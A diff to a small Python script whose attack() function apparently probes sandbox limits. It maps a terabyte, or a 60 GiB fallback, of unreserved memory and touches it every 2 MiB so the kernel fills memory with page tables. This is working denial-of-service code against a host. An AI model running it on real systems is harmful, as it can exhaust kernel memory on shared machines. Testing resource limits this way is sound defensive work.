@@ -1,4 +1,4 @@
-"""Takes the kernel's memory: tables for a terabyte of addresses, of which it only reads."""
+"""Takes the kernel's memory: tables for very many addresses, of which it only reads."""
 
 import mmap
 
@@ -9,10 +9,16 @@ MAP_NORESERVE = 0x4000
 
 def attack():
     flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE
-    sparse = mmap.mmap(-1, 1 << 40, flags=flags, prot=mmap.PROT_READ)
-    for address in range(0, 1 << 40, 2 << 20):
-        sparse[address]
-    return "took it"
+    taken = []
+    for size in (1 << 40, 60 << 30):
+        try:
+            sparse = mmap.mmap(-1, size, flags=flags, prot=mmap.PROT_READ)
+        except OSError:
+            continue
+        for address in range(0, size, 2 << 20):
+            sparse[address]
+        taken.append(size)
+    return f"took {taken}"
 
 
 play(attack)
